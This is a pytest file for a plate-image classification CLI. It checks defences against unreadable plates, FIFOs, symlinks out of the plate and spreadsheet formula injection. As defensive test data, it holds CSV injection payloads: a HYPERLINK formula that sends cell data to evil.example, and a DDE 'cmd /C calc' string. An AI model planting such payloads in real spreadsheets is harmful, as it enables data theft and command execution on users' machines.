"""Plates, plate maps and paths as a clumsy user or an attacker gives them (issue 18): a plate that
cannot be listed (a real denial: as root without the capabilities that pass file permissions), a
FIFO where a CSV should be, square brackets in paths, links out of the plate, files that are not
what their names say."""

import csv
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from appliance.cli import app
from appliance.plate import discover_fields
from tests.appliance.unprivileged import as_unprivileged, open_to_all
from tests.conftest import write_plate

ROOT = Path(__file__).resolve().parents[2]
CLI = "import sys; from appliance.cli import app; app(sys.argv[1:], prog_name='mcnn-appliance')"


def rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_classify_reports_a_plate_it_cannot_list_and_classifies_the_others(reachable, tiny_model):
    plates, model, out = reachable / "plates", reachable / "model", reachable / "out"
    write_plate(plates / "P1", wells=("B02",), sites=(1,))
    write_plate(plates / "P2", wells=("B02",), sites=(1,))
    write_plate(plates / "P3", wells=("B02",), sites=(1,))
    shutil.copytree(tiny_model, model)
    open_to_all(reachable)
    (plates / "P2").chmod(0)
    done = subprocess.run(
        as_unprivileged([sys.executable, "-c", CLI, "classify", str(plates), "--model", str(model), "--out", str(out)]),
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 1, done.stderr  # some of it failed: not 0, and not "nothing ran"
    assert "Traceback" not in done.stderr
    assert f"{plates / 'P2'}: cannot read it (Permission denied)" in done.stderr
    assert len(rows(out / "P1" / "fields.csv")) == 1 and len(rows(out / "P3" / "fields.csv")) == 1
    assert not (out / "P2").exists()


@pytest.mark.parametrize("name", ["a[/]b", "Plate [rep1]", "[bold]x[/bold]"])
def test_square_brackets_in_a_path_are_printed_as_they_are(tmp_path, tiny_model, name, monkeypatch):
    plate = tmp_path / name
    write_plate(plate, wells=("B02",), sites=(1,))
    monkeypatch.chdir(tmp_path)  # the default results folder: results/<plate> under the working directory
    result = CliRunner().invoke(app, ["classify", str(plate), "--model", str(tiny_model)])
    assert result.exit_code == 0, result.output
    assert f"{plate.name}: 1 fields classified" in result.output
    assert f"-> {tmp_path / 'results' / plate.name}" in result.output
    result = CliRunner().invoke(app, ["classify", str(tmp_path / name / "missing"), "--model", str(tiny_model)])
    assert result.exit_code == 2 and f"error: {tmp_path / name / 'missing'}: not a folder" in result.output


def test_a_platemap_that_is_a_fifo_is_refused_without_opening_it(tmp_path, tiny_model):
    plate, fifo = tmp_path / "P1", tmp_path / "platemap.csv"
    write_plate(plate, wells=("B02",), sites=(1,))
    os.mkfifo(fifo)  # nothing ever writes to it: reading it would wait for ever
    done = subprocess.run(
        [sys.executable, "-c", CLI, "classify", str(plate), "--model", str(tiny_model), "--platemap", str(fifo)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 2, done.stderr
    assert f"{fifo}: not a regular file but a FIFO; refused" in done.stderr
    for kind, path in (("a folder", tmp_path / "P1"), ("a character device", Path("/dev/null"))):
        result = CliRunner().invoke(app, ["classify", str(plate), "--model", str(tiny_model), "--platemap", str(path)])
        assert result.exit_code == 2 and f"{path}: not a regular file but {kind}" in result.output


STUCK_BEFORE_CLASSIFYING = textwrap.dedent("""
    import sys
    import appliance.classify
    from appliance.cli import app

    fifo = sys.argv.pop(1)

    def stuck(*args, **kwargs):  # a read that never returns (a FIFO on a plate share) while fields are found
        print("finding fields", file=sys.stderr, flush=True)
        open(fifo).read()

    appliance.classify.discover_fields = stuck
    app(sys.argv[1:], prog_name="mcnn-appliance")
""")


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT])
def test_a_signal_ends_a_command_that_has_not_started_classifying(tmp_path, tiny_model, signum):
    plate, fifo = tmp_path / "P1", tmp_path / "stuck"
    write_plate(plate, wells=("B02",), sites=(1,))
    os.mkfifo(fifo)
    command = [sys.executable, "-c", STUCK_BEFORE_CLASSIFYING, str(fifo), "classify", str(plate)]
    process = subprocess.Popen(
        [*command, "--model", str(tiny_model), "--quiet"], cwd=ROOT, stderr=subprocess.PIPE, text=True
    )
    try:
        assert process.stderr.readline().strip() == "finding fields"
        time.sleep(0.2)  # inside open()
        sent = time.monotonic()
        process.send_signal(signum)
        _, stderr = process.communicate(timeout=30)  # before: the graceful stop waited for ever
    finally:
        if process.poll() is None:
            process.kill()
    assert time.monotonic() - sent < 30
    assert process.returncode == 2, stderr
    assert f"{signum.name} before classification started: stopped, nothing of it classified" in stderr
    assert "Traceback" not in stderr


SECRET = "root:x:0:0:SECRET-LINE:/root:/bin/bash\n"


def spoil_dapi_files(images_dir: Path, outside: Path) -> dict[str, str]:
    """Turn each well's DAPI file (w1) into something else; returns well -> what it became."""
    outside.mkdir()
    (outside / "passwd").write_text(SECRET)
    dapi = {well: next(images_dir.glob(f"*{well}*_w1*")) for well in ("B02", "B03", "C02", "C03", "D02", "D03")}
    dapi["B02"].unlink()
    dapi["B02"].symlink_to(outside / "passwd")  # a link to a system file, named like a TIFF
    dapi["B03"].rename(outside / "real.tif")
    dapi["B03"].symlink_to(outside / "real.tif")  # a link to a real TIFF elsewhere
    dapi["C02"].unlink()
    dapi["C02"].mkdir()
    dapi["C03"].unlink()
    os.mkfifo(dapi["C03"])
    dapi["D02"].unlink()
    dapi["D02"].symlink_to(dapi["D02"].name)  # a link to itself
    dapi["D03"].write_text(SECRET)  # inside the plate, a regular file, not a TIFF
    return {
        "B02": "outside the plate folder",
        "B03": "outside the plate folder",
        "C02": "a folder, not an image file; refused",
        "C03": "a FIFO, not an image file; refused",
        "D02": "a symlink loop; refused",
    }


@pytest.mark.parametrize("layout", ["bbbc021", "metaxpress"])
def test_links_out_of_the_plate_and_odd_files_fail_their_field_naming_what_they_are(tmp_path, tiny_model, layout):
    from tests.appliance.layouts import write_metaxpress
    from tests.appliance.layouts.same_fields import random_images, write_bbbc021

    images = random_images(wells=("B02", "B03", "C02", "C03", "D02", "D03", "E02"), sites=(1,))
    if layout == "bbbc021":
        plate = images_dir = write_bbbc021(tmp_path / "plate", images)
    else:
        plate = write_metaxpress.write_plate(tmp_path / "plate", images)
        images_dir = plate / "TimePoint_1"
    became = spoil_dapi_files(images_dir, tmp_path / "outside")
    fields, failures = discover_fields(plate, layout)
    assert [f.well for f in fields] == ["D03", "E02"]  # D03 is a regular file: its reader says it is no TIFF
    reasons = {f.well: f.reason for f in failures}
    assert sorted(reasons) == sorted(became)
    for well, what in became.items():
        assert what in reasons[well] and "missing channel" not in reasons[well]

    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["classify", str(plate), "--model", str(tiny_model), "--out", str(out)])
    assert result.exit_code == 1, result.output
    assert [r["Metadata_Well"] for r in rows(out / "fields.csv")] == ["E02"]
    failed = {r["Metadata_Well"]: r["Reason"] for r in rows(out / "failures.csv")}
    assert sorted(failed) == sorted([*became, "D03"]) and "not a TIFF file" in failed["D03"]
    for name in ("failures.csv", "report.html", "fields.csv", "summary.json"):
        text = (out / name).read_text(encoding="utf-8")
        assert "SECRET" not in text and "root:x" not in text and "b'root" not in text, name


def test_compound_names_that_start_a_formula_are_text_in_the_csvs(tmp_path, tiny_model):
    import pyarrow.parquet as pq

    from appliance.result_files import read_results

    plate, out = tmp_path / "P1", tmp_path / "out"
    write_plate(plate, wells=("B02", "B03", "C02", "C03"), sites=(1,))
    compounds = {
        "B02": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "B03": "@SUM(1+1)*cmd|' /C calc'!A0",
        "C02": "-2+3",
        "C03": "'=already quoted",
    }
    with open(tmp_path / "map.csv", "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["well", "compound", "concentration"])
        writer.writerows([well, compound, "-0.5"] for well, compound in compounds.items())
    result = CliRunner().invoke(
        app,
        [
            "classify",
            str(plate),
            "--model",
            str(tiny_model),
            "--out",
            str(out),
            "--platemap",
            str(tmp_path / "map.csv"),
        ],
    )
    assert result.exit_code == 0, result.output
    for name in ("fields.csv", "wells.csv"):
        assert {r["Metadata_Well"]: r["Metadata_Compound"] for r in rows(out / name)} == {
            well: "'" + compound
            for well, compound in compounds.items()  # a spreadsheet shows it as text
        }
    treatments = rows(out / "treatments.csv")
    assert sorted(r["Metadata_Compound"] for r in treatments) == sorted("'" + c for c in compounds.values())
    for row in rows(out / "fields.csv") + treatments:
        assert row["Metadata_Concentration"] == "-0.5"  # a number stays a number
    parquet = pq.read_table(out / "fields.parquet").to_pylist()
    assert {r["Metadata_Well"]: r["Metadata_Compound"] for r in parquet} == compounds  # Parquet keeps the text
    assert {r["Metadata_Well"]: r["Metadata_Compound"] for r in read_results(out).fields} == compounds


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "''@x", "'plain", "plain", "", "'"])
def test_a_neutralised_cell_reads_back_as_written(text):
    from appliance.safe_text import neutralise_formula, restore_formula, starts_formula

    written = neutralise_formula(text)
    assert restore_formula(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert (written != text) == starts_formula(text)


def test_a_model_that_fits_no_field_stops_the_plate_once(tmp_path, tiny_model):
    import numpy as np

    from tests.conftest import write_field

    plate, rng = tmp_path / "P1", np.random.default_rng(0)
    for well in ("B02", "B03", "C02", "C03"):
        write_field(plate, well, 1, rng, size=(256, 192))
    result = CliRunner().invoke(app, ["classify", str(plate), "--model", str(tiny_model), "--out", str(tmp_path / "o")])
    assert result.exit_code == 2, result.output
    assert result.output.count("error:") == 1
    assert "P1: none of its 4 fields has the model's input size 128x128 (WxH); they are 192x256" in result.output
    assert not (tmp_path / "o" / "failures.csv").exists()

    write_plate(plate, wells=("D02",), sites=(1,))  # one field of the model's size: the others fail one by one
    result = CliRunner().invoke(app, ["classify", str(plate), "--model", str(tiny_model), "--out", str(tmp_path / "o")])
    assert result.exit_code == 1, result.output
    assert len(rows(tmp_path / "o" / "fields.csv")) == 1 and len(rows(tmp_path / "o" / "failures.csv")) == 4
